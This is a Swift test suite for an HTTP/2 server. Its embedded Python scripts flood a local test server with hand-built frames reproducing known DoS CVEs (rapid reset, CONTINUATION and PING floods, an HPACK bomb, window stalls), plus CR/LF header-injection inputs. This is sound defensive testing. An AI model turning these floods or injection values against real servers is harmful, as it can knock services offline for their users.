#if os(Linux)
import Foundation
import TestSupport
import Testing

@testable import Receiver

/// Floods of HTTP/2 frames, written by hand, for three seconds each.
@Suite(
    "HTTP/2 attacks", .timeLimit(.minutes(4)), .serialized,
    .enabled(if: Subprocess.find("python3") != nil, "there is no python3"))
struct HTTP2AttackTests {
    /// A client that writes frames, and one that asks meanwhile whether the server answers.
    private static let library = """
        import socket, ssl, sys, threading, time
        port, authority = int(sys.argv[1]), sys.argv[2]
        DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
        END_STREAM, END_HEADERS = 1, 4
        def connect(protocol, timeout=20):
            context = ssl.create_default_context(cafile=authority)
            context.set_alpn_protocols([protocol])
            connection = context.wrap_socket(
                socket.create_connection(("localhost", port)), server_hostname="localhost")
            connection.settimeout(timeout)
            return connection
        def frame(kind, flags, stream, content=b""):
            return len(content).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + content
        def number(value, bits, first):
            # RFC 7541 §5.1
            most = (1 << bits) - 1
            if value < most:
                return bytes([first | value])
            coded, value = [first | most], value - most
            while value >= 128:
                coded, value = coded + [value % 128 + 128], value // 128
            return bytes(coded + [value])
        def literal(name, value):
            return b"\\0" + number(len(name), 7, 0) + name + number(len(value), 7, 0) + value
        def head(method, path, authority=b"localhost"):
            # RFC 7541 appendix A: 2 and 4 are :method and :path, 7 is :scheme https, 1 is :authority.
            return b"\\x02" + number(len(method), 7, 0) + method + b"\\x87\\x04" + number(len(path), 7, 0) + path \\
                + b"\\x01" + number(len(authority), 7, 0) + authority
        def open_connection(settings=b""):
            connection = connect("h2", timeout=1)
            connection.sendall(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n" + frame(SETTINGS, 0, 0, settings))
            return connection
        slowest, asked, stopped = 0.0, 0, False
        def ask():
            global slowest, asked
            while not stopped:
                start = time.monotonic()
                with connect("http/1.1") as connection:
                    connection.sendall(b"GET /health HTTP/1.1\\r\\nHost: localhost\\r\\n\\r\\n")
                    assert connection.recv(4096).startswith(b"HTTP/1.1 200 ")
                slowest, asked = max(slowest, time.monotonic() - start), asked + 1
                time.sleep(0.02)
        def flood(block, settings=b"", start=b"", read=False):
            # block(n) is the nth piece to send. A connection that the server closes is opened again.
            closed, sent, end = 0, 0, time.monotonic() + 3
            while time.monotonic() < end:
                try:
                    connection = open_connection(settings)
                    if start: connection.sendall(start)
                    n = 0
                    while time.monotonic() < end:
                        piece = block(n)
                        if not piece:
                            time.sleep(max(0, end - time.monotonic()))
                            break
                        connection.sendall(piece)
                        n, sent = n + 1, sent + len(piece)
                        if read:
                            connection.settimeout(0.001)
                            try:
                                while connection.recv(1 << 20): pass
                            except TimeoutError: pass
                            connection.settimeout(1)
                except TimeoutError:
                    time.sleep(max(0, end - time.monotonic()))
                except (ConnectionError, ssl.SSLError, OSError):
                    closed += 1
                    time.sleep(0.05)
            return closed, sent
        thread = threading.Thread(target=ask)
        thread.start()
        time.sleep(0.2)

        """

    private static let end = """

        stopped = True
        thread.join()
        print(f"{int(slowest * 1000)} {asked}")
        print(f"closed {closed} times, {sent >> 10} KiB sent", file=sys.stderr)
        """

    private static let scripts = [
        (
            "CVE-2023-44487: rapid reset",
            """
            closed, sent = flood(lambda n: b"".join(
                frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, head(b"GET", b"/count/inf?interval=0"))
                + frame(RST_STREAM, 0, 2 * i + 1, (8).to_bytes(4, "big")) for i in range(100 * n, 100 * n + 100)))
            """
        ),
        (
            "CVE-2025-8671: streams that the server must reset",
            """
            closed, sent = flood(lambda n: b"".join(
                frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, head(b"GET", b"/count/inf?interval=0"))
                + frame(WINDOW_UPDATE, 0, 2 * i + 1, (0).to_bytes(4, "big")) for i in range(100 * n, 100 * n + 100)))
            """
        ),
        (
            "CVE-2019-9514: invalid requests that the server must reset",
            """
            closed, sent = flood(lambda n: b"".join(
                frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, head(b"GET", b"/") + literal(b"A", b"b"))
                for i in range(100 * n, 100 * n + 100)))
            """
        ),
        (
            "CVE-2024-27316, CVE-2023-45288: CONTINUATION without end",
            """
            closed, sent = flood(
                lambda n: frame(CONTINUATION, 0, 1, b"".join(literal(b"x%d" % n, b"y" * 1000) for _ in range(16))),
                start=frame(HEADERS, END_STREAM, 1, head(b"GET", b"/")))
            """
        ),
        (
            "CVE-2019-9518: empty CONTINUATION",
            """
            closed, sent = flood(
                lambda n: frame(CONTINUATION, 0, 1) * 1000, start=frame(HEADERS, END_STREAM, 1, head(b"GET", b"/")))
            """
        ),
        (
            "CVE-2019-9518: empty DATA",
            """
            closed, sent = flood(
                lambda n: frame(DATA, 0, 1) * 1000, start=frame(HEADERS, END_HEADERS, 1, head(b"POST", b"/echo")))
            """
        ),
        ("CVE-2019-9515: SETTINGS", "closed, sent = flood(lambda n: frame(SETTINGS, 0, 0) * 1000)"),
        ("CVE-2019-9512: PING", "closed, sent = flood(lambda n: frame(PING, 0, 0, bytes(8)) * 1000)"),
        (
            "CVE-2019-9513: PRIORITY",
            """
            closed, sent = flood(lambda n: b"".join(
                frame(PRIORITY, 0, 2 * i + 1, (2 * i + 3).to_bytes(4, "big") + b"\\x10")
                for i in range(1000 * n % 1000000, 1000 * n % 1000000 + 1000)))
            """
        ),
        (
            "CVE-2019-9516: header fields without name and value",
            """
            closed, sent = flood(lambda n: b"".join(
                frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, head(b"GET", b"/") + literal(b"", b"") * 4000)
                for i in range(10 * n, 10 * n + 10)))
            """
        ),
        (
            "CVE-2019-9517: closed windows",
            """
            closed, sent = flood(
                lambda n: b"".join(
                    frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, head(b"GET", b"/files/large"))
                    for i in range(100)) if n == 0 else b"",
                settings=(4).to_bytes(2, "big") + (0).to_bytes(4, "big"))
            """
        ),
        (
            "CVE-2019-9517: open windows, and a socket that is not read",
            """
            closed, sent = flood(
                lambda n: b"".join(
                    frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, head(b"GET", b"/files/large"))
                    for i in range(100)) if n == 0 else b"",
                settings=(4).to_bytes(2, "big") + (0x7FFFFFFF).to_bytes(4, "big"),
                start=frame(WINDOW_UPDATE, 0, 0, (0x7FFF0000).to_bytes(4, "big")))
            """
        ),
        (
            "CVE-2016-6581: an HPACK bomb",
            """
            # A field of 4,000 bytes, added to the dynamic table; then 16,000 references to it in each request.
            field = b"\\x40" + number(1, 7, 0) + b"x" + number(4000, 7, 0) + b"y" * 4000
            closed, sent = flood(
                lambda n: b"".join(
                    frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, head(b"GET", b"/") + b"\\xbe" * 16000)
                    for i in range(10 * n + 1, 10 * n + 11)),
                start=frame(HEADERS, END_HEADERS | END_STREAM, 1, head(b"GET", b"/") + field))
            """
        ),
        (
            "changes of the table of header fields",
            """
            # A table size of 0, and of 4096, as often as fits.
            closed, sent = flood(lambda n: b"".join(
                frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, b"\\x20\\x3f\\xe1\\x1f" * 4000 + head(b"GET", b"/"))
                for i in range(10 * n, 10 * n + 10)))
            """
        ),
        (
            "WINDOW_UPDATE",
            "closed, sent = flood(lambda n: frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4, 'big')) * 1000)"
        ),
    ]

    @Test("while a connection is flooded, others are answered, and memory is limited", arguments: scripts)
    func floods(name: String, script: String) async throws {
        let server = try await ServerProcess.start(["--log-level", "error"], isSecure: true)
        defer { server.process.terminate() }
        try server.directory.write([UInt8](repeating: 7, count: 8 << 20), to: "large")
        func run(_ script: String) async throws -> [Int] {
            let result = try await Subprocess.run(
                "python3",
                ["-c", Self.library + script + Self.end, "\(server.port)", try await Certificates.shared.authority],
                deadline: .seconds(60))
            #expect(result.status == 0, "\(result.errorOutput)")
            print("\(name): \(result.errorOutput.trimmingCharacters(in: .whitespacesAndNewlines))")
            return result.output.split(whereSeparator: \.isWhitespace).compactMap { Int($0) }
        }
        _ = try await run("closed, sent = 0, 0")
        let memory = try server.peakMemory
        let numbers = try await run(script)
        let growth = try server.peakMemory - memory
        try #require(numbers.count == 2)
        print("\(name): slowest of \(numbers[1]) responses: \(numbers[0]) ms, memory grew by \(growth / 1024) MiB")
        #expect(numbers[1] > 1 && numbers[0] < 5000)
        #expect(growth < 96 * 1024)
    }

    @Test(
        "CVE-2026-28898: a pseudo-header cannot contain a line end",
        arguments: [
            "b\"GET\", b\"/\\r\\nX: y\"", "b\"G\\nT\", b\"/\"", "b\"GET\", b\"/\", b\"a\\r\\nb\"",
            "b\"GET\", b\"/\\0\"",
        ])
    func pseudoHeaders(arguments: String) async throws {
        let certificates = try await Certificates.shared
        try await RunningServer.with(configure: {
            $0.tls = .init(certificate: certificates.certificate("server"), key: certificates.key("server"))
        }) { server in
            let script = """
                stopped = True
                thread.join()
                connection = open_connection()
                connection.settimeout(20)
                connection.sendall(frame(HEADERS, END_HEADERS | END_STREAM, 1, head(\(arguments))))
                received, kinds = b"", []
                while not {RST_STREAM, 7} & set(kinds):
                    more = connection.recv(65536)
                    if not more: break
                    received, kinds, rest = received + more, [], received + more
                    while len(rest) >= 9:
                        kinds.append(rest[3])
                        rest = rest[9 + int.from_bytes(rest[:3], "big"):]
                print("answered" if HEADERS in kinds else "refused")
                """
            let result = try await Subprocess.run(
                "python3", ["-c", Self.library + script, "\(server.port)", certificates.authority])
            #expect(result.output == "refused\n", "\(result.output)\(result.errorOutput)")
        }
    }
}
#endif
